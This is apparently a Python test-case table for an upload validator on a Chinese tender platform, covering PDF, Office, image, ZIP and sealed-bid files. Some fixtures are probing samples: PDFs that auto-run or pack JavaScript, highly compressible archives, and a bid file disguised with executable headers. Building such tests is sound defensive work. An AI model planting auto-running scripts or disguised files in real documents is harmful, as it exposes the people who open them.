    _case("name with a rare character", "投标人𠮷田葛\U000e0100.pdf", PDF, V.OPENS_PAGES),
    _case("name with dots", "附件1.2 v1.0.pdf", PDF, V.OPENS_PAGES),
    _case("GBK name", "投标文件.pdf".encode("gbk"), PDF, V.OPENS_PAGES),
    _case("OFD", "营业执照.ofd", making.ofd(), V.OPENS),
    _case("Word", "技术方案.docx", making.docx({"word/media/a.png": PNG}), V.OPENS),
    _case("Word with a workbook inside", "技术方案.docx",
          making.docx({"word/embeddings/a.xlsx": making.xlsx()}), V.OPENS),
    _case("Excel", "报价清单.xlsx", making.xlsx(), V.OPENS),
    _case("Excel of one repeated value", "报价清单.xlsx",
          making.xlsx({"xl/worksheets/sheet1.xml": "<c><v>0</v></c>" * 900_000}), V.OPENS),
    _case("Word 97", "技术方案.doc", DOC, V.OPENS),
    _case("Excel 97", "报价清单.xls", making.ole({"Workbook": making.workbook()}), V.OPENS),
    _case("WPS", "技术方案.wps", DOC, V.OPENS),
    _case("JPEG", "照片.jpeg", JPEG, V.OPENS),
    _case("progressive JPEG", "照片.jpg", making.picture("JPEG", progressive=True), V.OPENS),
    _case("JPEG with bytes behind", "照片.jpg", JPEG + bytes(500), V.OPENS),
    _case("PNG", "照片.png", PNG, V.OPENS),
    _case("BMP", "照片.bmp", making.picture("BMP"), V.OPENS),
    _case("text", "说明.txt", "投标说明\r\n一、……".encode("gbk"), V.KIND_AGREES),
    _case("TIFF", "扫描.tif", making.picture("TIFF"), V.OPENS),
    _case("ZIP with documents", "资料.zip", making.zipped(
        {"资质/": b"", "资质/一.pdf": PDF, "二.docx": making.docx(), "三.doc": DOC}), V.OPENS),
    _case("ZIP with one small repeated value", "资料.zip",
          making.zipped({"a.txt": bytes(900_000)}), V.OPENS),
    _case("ZIP with a comment", "资料.zip",
          making.zipped({"a": "a"})[:-2] + b"\x03\0bye", V.OPENS),
    _case("ZIP with a large end", "资料.zip", making.zip64(making.zipped({"a": "a"})), V.OPENS),
    _case("ZIP with only a large end", "资料.zip",
          making.zip64(making.zipped({"a": "a"}), small=False), V.OPENS),
    _case("PDF with a link and a form", "招标.pdf", making.acting_pdf(
        b"/AcroForm<</Fields[]>>", pages=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI"
        b"/URI(http://www.example.cn)>>>>]"), V.OPENS_PAGES),
    _case("PDF with a script", "招标.pdf",
          making.acting_pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), V.SCRIPTS),
    _case("PDF with a script, packed", "招标.pdf",
          making.packed_objects(b"<</S/JavaScript/JS(1)>>"), V.SCRIPTS),
    _case("PDF with a script, packed in a rare way", "招标.pdf",
          making.packed_twice(b"<</S/JavaScript/JS(1)>>"), V.SCRIPTS),
    _case("PDF with a text attached", "发票.pdf",
          making.attaching_pdf("a.xml", b"<a>1</a>"), V.OPENS_PAGES),
    _case("PDF with a Word document attached", "招标.pdf",
          making.attaching_pdf("a.docx", making.docx()), V.OPENS_PAGES),
    _case("PDF with an update behind its end", "招标.pdf",
          PDF + b"9 0 obj\n<</A 1>>\nendobj\n" + PDF[PDF.index(b"xref"):], V.OPENS_PAGES),
    _case("PDF with a note behind its end", "招标.pdf", PDF + b"--boundary--\r\n", V.OPENS_PAGES),
    _case("motion photo", "照片.jpg", JPEG + making.film(3_000_000), V.OPENS),
    _case("JPEG with a second picture behind it", "照片.jpg", JPEG + bytes(90) + JPEG, V.OPENS),
    _case("JPEG with a vendor's notes behind it", "照片.jpg",
          JPEG + making.film(200_000) + b"LIVE_1234:5678      ", V.OPENS),
    _case("Word with a template on this computer", "技术方案.docx", making.docx({
        "word/_rels/settings.xml.rels": making.relations(
            "attachedTemplate", "file:///C:\\Users\\li\\投标.dotx")}), V.OPENS),
    _case("Word with a link and a vector picture", "技术方案.docx", making.docx({
        "word/media/image1.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>",
        "word/_rels/document.xml.rels": making.relations(
            "hyperlink", "http://www.example.cn")}), V.OPENS),
    _case("Word with a packed-up PDF", "技术方案.docx", making.docx({
        "word/embeddings/oleObject1.bin": making.ole({}, small={
            "\x01Ole10Native": making.package("资质.pdf", PDF), "\x01Ole": bytes(20)})}), V.OPENS),
    _case("Word 97 with small parts", "技术方案.doc", making.ole(
        {"WordDocument": making.word()}, small={"\x01CompObj": bytes(100), "x": b"y" * 900}),
        V.OPENS),
    _case("Word 97 with a workbook in it", "技术方案.doc", making.ole(
        {"WordDocument": making.word(), "Package": making.xlsx()}), V.OPENS),
    _case("large Word document, packed in a ZIP", "资料.zip", making.zipped({
        "a.docx": making.docx({"word/media/a": random.Random(3).randbytes(16_500_000)})}), V.OPENS),
    _case("ZIP of Windows", "资料.zip",
          making.one_entry("资质/一.txt".encode("gbk"), b"a"), V.OPENS),
    _case("ZIP of macOS", "资料.zip", making.streamed_zip(
        {"资质/一.pdf": PDF, "__MACOSX/资质/._一.pdf": b"\0\x05\x16\x07" + bytes(90)}), V.OPENS),
    _case("ZIP of Info-ZIP", "资料.zip", making.one_entry(
        "一.txt".encode("gbk"), b"a",
        extra=making.unicode_path("一.txt".encode("gbk"), "一.txt"), system=3), V.OPENS),
    _case("ZIP of 7-Zip", "资料.zip", making.zipped(
        {"一.txt": "a", "二.pdf": PDF}, method=zipfile.ZIP_STORED), V.OPENS),
    _case("ZIP with zeros behind", "资料.zip", making.zipped({"a": "a"}) + bytes(300), V.OPENS),
    _case("sealed bid", "投标文件.ggzyTBWJ", NOISE, V.SEALED),
    _case("sealed bid that begins like a program", "投标文件.tbwj", b"MZ" + NOISE[:9000], V.SEALED),
    _case("sealed bid that begins like a script", "投标文件.zbwj", b"#!" + NOISE[:9000], V.SEALED),
    _case("JPEG for print", "照片.jpg", making.picture("JPEG", mode="CMYK"), V.OPENS),
    _case("grey JPEG", "照片.jpg", making.picture("JPEG", mode="L"), V.OPENS),
    _case("scan in black and white", "扫描.tiff",
          making.picture("TIFF", mode="1", compression="group4"), V.OPENS),
    _case("sealed bid that is a ZIP with a password", "投标文件.zbwj",
          making.encrypted_zip(making.zipped({"a.exe": "a"})), V.SEALED),
]  # fmt: skip
